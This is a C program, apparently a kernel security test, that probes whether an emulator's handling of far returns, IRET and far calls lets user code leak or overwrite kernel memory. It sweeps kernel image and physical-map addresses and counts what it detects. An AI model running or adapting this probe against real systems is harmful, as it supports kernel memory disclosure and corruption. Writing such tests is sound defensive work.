// SPDX-License-Identifier: MIT
// Tries to reach the kernel's memory where an emulator makes stack accesses with the kernel's rights: far
// returns and IRET with RSP there, whose error codes would tell what is there, and far calls, which would
// write there.
#define _GNU_SOURCE
#include <setjmp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <ucontext.h>
#include <unistd.h>

static sigjmp_buf back;
static volatile int told;

static void handler(int signal, siginfo_t *info, void *context)
{
	greg_t *registers = ((ucontext_t *)context)->uc_mcontext.gregs;
	(void)signal;
	(void)info;
	// A page fault says what was accessed how; the error codes of all others are what was found.
	told = registers[REG_TRAPNO] != 14 && registers[REG_ERR] != 0;
	siglongjmp(back, 1);
}

// Each of these comes back to `landing`, through what it finds or writes, or by a signal.

static int far_return(uint64_t at)
{
	told = 0;
	if (sigsetjmp(back, 1) == 0)
		__asm__ volatile("mov %0, %%rsp; lretq" : : "r"(at) : "memory");
	return told;
}

static int interrupt_return(uint64_t at)
{
	told = 0;
	if (sigsetjmp(back, 1) == 0)
		__asm__ volatile("mov %0, %%rsp; iretq" : : "r"(at) : "memory");
	return told;
}

struct __attribute__((packed)) pointer {
	uint64_t offset;
	uint16_t selector;
};

// Whether the call wrote its two words below `end`.
static int far_call(uint64_t end)
{
	static struct pointer target;
	if (sigsetjmp(back, 1) == 0) {
		int arrived;
		__asm__ volatile("lea 1f(%%rip), %%rax\n"
				 "mov %%rax, %1\n"
				 "mov %%cs, %2\n"
				 "mov %%rsp, %%rbx\n"
				 "mov %3, %%rsp\n"
				 "rex.W lcall *%1\n"
				 "1: mov %%rbx, %%rsp\n"
				 "mov $1, %0\n"
				 : "=r"(arrived), "+m"(target.offset), "=m"(target.selector)
				 : "r"(end)
				 : "rax", "rbx", "memory");
		return arrived;
	}
	return 0;
}

static int pages, words;

static void attack(uint64_t page)
{
	words += far_return(page + 8) + interrupt_return(page + 4056);
	pages += far_call(page + 4096);
}

int main(void)
{
	static char stack[65536];
	stack_t on = {.ss_sp = stack, .ss_size = sizeof stack};
	struct sigaction action = {.sa_sigaction = handler, .sa_flags = SA_SIGINFO | SA_ONSTACK};
	sigaltstack(&on, 0);
	for (int signal = 1; signal < 32; signal++)
		if (signal != SIGCHLD)
			sigaction(signal, &action, 0);
	// The image, some of physical memory, and the local APIC.
	for (uint64_t page = 0xffffffff80200000; page < 0xffffffff80400000; page += 4096)
		attack(page);
	for (uint64_t page = 0xffff800000001000; page < 0xffff800010000000; page += 4 << 20)
		attack(page);
	attack(0xffffffffc0000000);
	printf("words told: %d\n", words);
	// The page of the entry stacks stays in reach. Nothing there is read before it is written again.
	printf("pages written, but for one: %d\n", pages > 1 ? pages - 1 : 0);
	return 0;
}
